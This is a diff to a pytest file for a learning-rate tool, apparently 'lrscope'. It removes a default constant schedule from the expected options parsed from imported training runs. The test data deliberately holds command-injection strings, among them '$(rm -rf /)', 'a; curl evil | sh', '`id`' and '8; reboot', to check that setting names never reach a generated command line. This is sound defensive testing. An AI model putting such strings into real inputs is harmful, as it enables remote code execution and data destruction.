@@ -7,14 +7,12 @@ import pytest
 from lrscope.config.command_line import CommandLine
 from lrscope.findings.imported_options import UNKNOWN, imported_options
 
-CONSTANT = {"schedule": "constant", "warmup": "0"}
-
 
 @pytest.mark.parametrize(
     ("settings", "options"),
     [
-        ({}, CONSTANT),
-        ({"batch_size": "80", "epochs": "5", "seed": "3"}, {"batch_size": 80, "epochs": 5, **CONSTANT}),
+        ({}, {}),
+        ({"batch_size": "80", "epochs": "5", "seed": "3"}, {"batch_size": 80, "epochs": 5}),
         ({"schedule": "linear"}, {"schedule": "linear", "warmup": "0"}),
         ({"schedule": "curved"}, {}),
         ({"lr_scheduler_type": "cosine", "warmup_ratio": "0.1"}, {"schedule": "cosine", "warmup": "10%"}),
@@ -24,11 +22,11 @@ CONSTANT = {"schedule": "constant", "warmup": "0"}
         ),
         ({"schedule": "warmup(6%) > linear"}, {"schedule": "warmup(6%) > linear"}),
         ({"lr_scheduler_type": "inverse_sqrt_of_my_own"}, {}),
-        ({"adam_beta2": "0.95", "max_grad_norm": "0.5"}, {"beta2": 0.95, "clip_norm": 0.5, **CONSTANT}),
-        ({"optim": "adamw_torch_fused"}, CONSTANT),
-        ({"optim": "sgd", "hidden_dropout_prob": "0.1"}, {"optimizer": "sgd", "dropout": 0.1, **CONSTANT}),
-        ({"weight_decay": "nan", "batch_size": "-1", "dropout": "a lot"}, CONSTANT),
-        ({"label_names": "$(rm -rf /)"}, {"label_names": "$(rm -rf /)", **CONSTANT}),
+        ({"adam_beta2": "0.95", "max_grad_norm": "0.5"}, {"beta2": 0.95, "clip_norm": 0.5}),
+        ({"optim": "adamw_torch_fused"}, {}),
+        ({"optim": "sgd", "hidden_dropout_prob": "0.1"}, {"optimizer": "sgd", "dropout": 0.1}),
+        ({"weight_decay": "nan", "batch_size": "-1", "dropout": "a lot"}, {}),
+        ({"label_names": "$(rm -rf /)"}, {"label_names": "$(rm -rf /)"}),
     ],
 )
 def test_settings_of_imported_runs(settings: dict[str, str], options: dict[str, object]) -> None:
@@ -38,4 +36,4 @@ def test_settings_of_imported_runs(settings: dict[str, str], options: dict[str, 
 @pytest.mark.parametrize("name", ["a; curl evil | sh #_names", "x_names", "--out", "\n_names", "`id`"])
 def test_a_name_of_an_imported_setting_never_gets_into_a_command(name: str) -> None:
     text = CommandLine("sweep", imported_options({name: "1", "batch_size": "8; reboot"})).text("posix")
-    assert text == "lrscope sweep --model MODEL --train TRAIN --dev DEV --schedule constant --warmup 0"
+    assert text == "lrscope sweep --model MODEL --train TRAIN --dev DEV"
